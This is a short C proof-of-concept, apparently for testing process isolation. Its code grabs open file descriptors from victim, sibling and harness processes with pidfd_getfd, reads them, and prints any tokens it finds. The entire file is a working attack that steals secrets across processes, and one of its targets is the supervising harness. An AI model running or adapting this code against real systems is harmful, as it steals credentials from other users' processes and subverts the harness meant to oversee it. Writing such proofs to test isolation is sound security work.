// Takes an open file out of another process.
#include "proof.h"

static void steal(pid_t pid, int from, int to) {
    int process = syscall(SYS_pidfd_open, pid, 0);
    for (int fd = from; fd <= to && process >= 0; fd++) {
        int stolen = syscall(SYS_pidfd_getfd, process, fd, 0);
        if (stolen < 0) continue;
        char bytes[4096];
        ssize_t len = pread(stolen, bytes, sizeof bytes, 0);
        if (len > 0) print_tokens(bytes, len);
        close(stolen);
    }
}

int main(void) {
    bounded();
    steal(env_number("VICTIM_PID"), 3, 8);
    steal(env_number("SIBLING_PID"), 3, 8);
    steal(env_number("HARNESS_PID"), 3, 40);
    return 0;
}
